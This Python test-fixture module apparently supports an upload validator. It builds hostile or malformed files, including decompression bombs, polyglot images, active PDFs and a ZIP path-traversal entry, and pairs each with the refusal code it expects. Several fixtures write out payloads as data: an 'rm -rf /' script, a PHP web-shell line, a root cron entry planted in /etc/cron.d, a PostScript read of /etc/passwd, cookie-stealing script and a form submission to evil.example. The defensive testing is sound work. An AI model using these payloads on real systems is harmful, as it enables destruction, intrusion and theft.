"""Files that somebody might bring to harm or to mislead, made here: name → (bytes, what must happen).

What must happen: the code of a refusal, or `shown` where it is taken and what is shown of it is only pixels of ours.
"""

import io
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

SHOWN = "shown"
SCRIPT = b"<script>alert(document.cookie)</script>"
GPS = 0x8825


def picture(kind: str = "JPEG", *, size: tuple[int, int] = (120, 80), mode: str = "RGB", **more: Any) -> bytes:
    """A picture whose left half is red and whose right half is white."""
    image = Image.new(mode, size, "white" if mode != "CMYK" else (0, 0, 0, 0))
    image.paste("red" if mode != "CMYK" else (0, 255, 255, 0), (0, 0, size[0] // 2, size[1]))
    out = io.BytesIO()
    image.save(out, kind, **more)
    return out.getvalue()


def with_place() -> bytes:
    """A photo as a phone takes it: lying on its side, with where it was taken and by what."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = 6, "SECRETPHONE"
    exif.get_ifd(GPS).update({1: "N", 2: (31.0, 51.0, 30.0), 3: "E", 4: (117.0, 16.0, 20.0)})
    return picture(exif=exif)


def chunk(name: bytes, body: bytes) -> bytes:
    """A part of a PNG."""
    return len(body).to_bytes(4, "big") + name + body + zlib.crc32(name + body).to_bytes(4, "big")


def png_of(width: int, height: int, body: bytes = b"") -> bytes:
    """A PNG that says that it is so big."""
    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x01\x00\x00\x00\x00"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def pixel_bomb() -> bytes:
    """Under 100 KB of zeros that would be 60,000 × 60,000 pixels."""
    return png_of(60_000, 60_000, zlib.compress(bytes(20_000_000), 9))


def text_bomb() -> bytes:
    """A small PNG with a remark that unpacks to 200 MB."""
    bomb = b"Comment\0\0" + zlib.compress(bytes(200_000_000), 9)
    plain = picture("PNG")
    return plain[:33] + chunk(b"zTXt", bomb) + plain[33:]


def moving(kind: str) -> bytes:
    """Two frames: red, then green."""
    out = io.BytesIO()
    frames = [Image.new("RGB", (40, 40), colour) for colour in ("red", "green")]
    frames[0].save(
        out,
        kind,
        save_all=True,
        append_images=frames[1:],
        duration=50,
        **({"lossless": True} if kind == "WEBP" else {}),
    )
    return out.getvalue()


def pdf(build: Callable[[PdfWriter], None] = lambda _made: None, *, pages: int = 1, size: float = 300) -> bytes:
    """A PDF of empty pages, with what `build` adds to it."""
    made = PdfWriter()
    for _page in range(pages):
        made.add_blank_page(size, size)
    build(made)
    out = io.BytesIO()
    made.write(out)
    return out.getvalue()


def words(**keys: Any) -> DictionaryObject:
    """A dictionary of a PDF."""
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in keys.items()})


def name(text: str) -> NameObject:
    """A name of a PDF."""
    return NameObject(f"/{text}")


def opening(act: DictionaryObject) -> bytes:
    """Something is done as soon as it is opened."""
    return pdf(lambda made: made._root_object.update({name("OpenAction"): act}))


def annotated(note: DictionaryObject) -> bytes:
    """A page with something on it to be clicked or played."""
    return pdf(lambda made: made.pages[0].update({name("Annots"): ArrayObject([note])}))


def _unreferenced(made: PdfWriter) -> None:
    made._add_object(words(S=name("JavaScript"), JS=TextStringObject("app.alert(1)")))


def _hidden_name(content: bytes) -> bytes:
    return content.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS")


def _by_name(made: PdfWriter) -> None:
    script = words(S=name("JavaScript"), JS=made._add_object(StreamObject()))
    made._root_object[name("Names")] = words(JavaScript=words(Names=ArrayObject([TextStringObject("x"), script])))


def _forms(made: PdfWriter) -> None:
    made._root_object[name("AcroForm")] = words(XFA=TextStringObject("<xdp/>"))


def _encrypted(password: str) -> Callable[[PdfWriter], None]:
    return lambda made: made.encrypt(user_password=password, owner_password="owner", algorithm="RC4-128")


def _page_bomb(made: PdfWriter) -> None:
    """A page that paints a picture of 900 million pixels."""
    image = StreamObject()
    image._data = zlib.compress(bytes(30_000_000), 9)
    image.update(
        words(Type=name("XObject"), Subtype=name("Image"), Width=NumberObject(30_000), Height=NumberObject(30_000),
              ColorSpace=name("DeviceRGB"), BitsPerComponent=NumberObject(8), Filter=name("FlateDecode"))
    )  # fmt: skip
    paint = StreamObject()
    paint._data = b"300 0 0 300 0 0 cm /P Do"
    page = made.pages[0]
    page[name("Resources")] = words(XObject=words(P=made._add_object(image)))
    page[name("Contents")] = made._add_object(paint)


def _long_way(made: PdfWriter) -> None:
    """A page that is small in the file and never ends."""
    steps = StreamObject()
    steps._data = zlib.compress(b"q " * 40_000_000, 9)
    steps[name("Filter")] = name("FlateDecode")
    made.pages[0][name("Contents")] = made._add_object(steps)


def archive(**parts: bytes) -> bytes:
    """A ZIP with these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for path, body in parts.items():
            made.writestr(path, body)
    return out.getvalue()


JS = words(S=name("JavaScript"), JS=TextStringObject("app.alert(1)"))
LAUNCH = words(S=name("Launch"), F=TextStringObject("cmd.exe"))
AWAY = words(S=name("URI"), URI=TextStringObject("https://evil.example/"))
LINK = words(Type=name("Annot"), Subtype=name("Link"), A=AWAY)
VIDEO = words(Type=name("Annot"), Subtype=name("RichMedia"))
SENT = words(
    Type=name("Annot"),
    Subtype=name("Widget"),
    A=words(S=name("SubmitForm"), F=TextStringObject("https://evil.example/")),
)

# file → what must happen
FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing at all": (lambda: b"", "file_empty"),
    "more than ten megabytes": (lambda: picture() + bytes(10_000_000), "file_too_big"),
    "an SVG that acts": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "file_kind"),
    "a page called photo.jpg": (lambda: b"<!doctype html><html>" + SCRIPT, "file_kind"),
    "a script": (lambda: b"#!/bin/sh\nrm -rf /\n", "file_kind"),
    "a program": (lambda: b"MZ\x90\0" + bytes(200), "file_kind"),
    "a program of ours": (lambda: b"\x7fELF" + bytes(200), "file_kind"),
    "a GIF that is a script": (lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "picture_kind"),
    "PostScript": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run", "picture_kind"),
    "a TIFF": (lambda: picture("TIFF"), "picture_kind"),
    "a bitmap": (lambda: picture("BMP"), "picture_kind"),
    "a HEIC": (lambda: b"\0\0\0\x18ftypheic" + bytes(100), "picture_kind"),
    "a ZIP": (lambda: archive(**{"../../etc/cron.d/x": b"* * * * * root sh"}), "file_is_sheet"),
    "an old office file": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "file_is_sheet"),
    "a ZIP with a picture before it": (lambda: picture() + archive(x=b"y"), SHOWN),
    "a page behind the pixels": (lambda: picture() + SCRIPT, SHOWN),
    "a page in a remark": (lambda: picture("PNG")[:33] + chunk(b"tEXt", b"a\0" + SCRIPT) + picture("PNG")[33:], SHOWN),
    "a PHP remark in a JPEG": (lambda: picture(comment=b"<?php system($_GET[0]); ?>"), SHOWN),
    "where it was taken": (with_place, SHOWN),
    "a JPEG that breaks off": (lambda: picture(size=(900, 900), quality=95)[:-3000], "picture_broken"),
    "a head without a picture": (lambda: b"\xff\xd8\xff\xe0" + bytes(50), "picture_broken"),
    "a PNG that breaks off": (lambda: picture("PNG", size=(500, 500))[:60], "picture_broken"),
    "a PNG that lies": (lambda: png_of(10, 10, b"no zlib"), "picture_broken"),
    "a WebP that is none": (lambda: b"RIFF\x20\0\0\0WEBP" + bytes(40), "picture_broken"),
    "a pixel bomb": (pixel_bomb, "too_many_pixels"),
    "a thread of a million pixels": (lambda: png_of(1_000_000, 1), "too_many_pixels"),
    "a remark that unpacks to 200 MB": (text_bomb, "picture_broken"),
    "a moving WebP": (lambda: moving("WEBP"), SHOWN),
    "a moving PNG": (lambda: moving("PNG"), SHOWN),
    "a picture for print": (lambda: picture(mode="CMYK"), SHOWN),
    "grey of sixteen bits": (lambda: _deep(), SHOWN),
    "a picture with glass": (lambda: picture("PNG", mode="RGBA"), SHOWN),
    "a PDF": (pdf, SHOWN),
    "a PDF that goes to its first page": (lambda: opening(words(S=name("GoTo"), D=ArrayObject([NumberObject(0)]))), SHOWN),
    "a PDF with a link": (lambda: annotated(LINK), SHOWN),
    "a PDF with a page behind it": (lambda: pdf() + SCRIPT, SHOWN),
    "a PDF that runs JavaScript": (lambda: opening(JS), "pdf_active"),
    "JavaScript under a written-out name": (lambda: _hidden_name(opening(JS)), "pdf_active"),
    "JavaScript that no page leads to": (lambda: pdf(_unreferenced), "pdf_active"),
    "JavaScript by name": (lambda: pdf(_by_name), "pdf_active"),
    "a PDF that starts a program": (lambda: opening(LAUNCH), "pdf_active"),
    "a PDF that opens a page": (lambda: opening(AWAY), "pdf_active"),
    "a PDF that sends a form": (lambda: annotated(SENT), "pdf_active"),
    "a PDF with a video": (lambda: annotated(VIDEO), "pdf_active"),
    "a PDF with a file in it": (lambda: pdf(lambda made: made.add_attachment("x.exe", b"MZ")), "pdf_active"),
    "a PDF with forms of its own": (lambda: pdf(_forms), "pdf_active"),
    "a PDF with a password": (lambda: pdf(_encrypted("secret")), "pdf_encrypted"),
    "a PDF that may not be printed": (lambda: pdf(_encrypted("")), "pdf_encrypted"),
    "a PDF of 31 pages": (lambda: pdf(pages=31), "too_many_pages"),
    "a PDF of none": (lambda: pdf(pages=0), "pdf_broken"),
    "a PDF that breaks off": (lambda: pdf()[:120], "pdf_broken"),
    "a PDF as large as a field": (lambda: pdf(size=200_000), "pdf_broken"),
    "a PDF behind a page": (lambda: SCRIPT + pdf(), "file_kind"),
    "a page that paints 900 million pixels": (lambda: pdf(_page_bomb), SHOWN),
    "a page of forty million steps": (lambda: pdf(_long_way), "too_heavy"),
}  # fmt: skip


def _deep() -> bytes:
    out = io.BytesIO()
    Image.new("I;16", (40, 40), 40_000).save(out, "PNG")
    return out.getvalue()
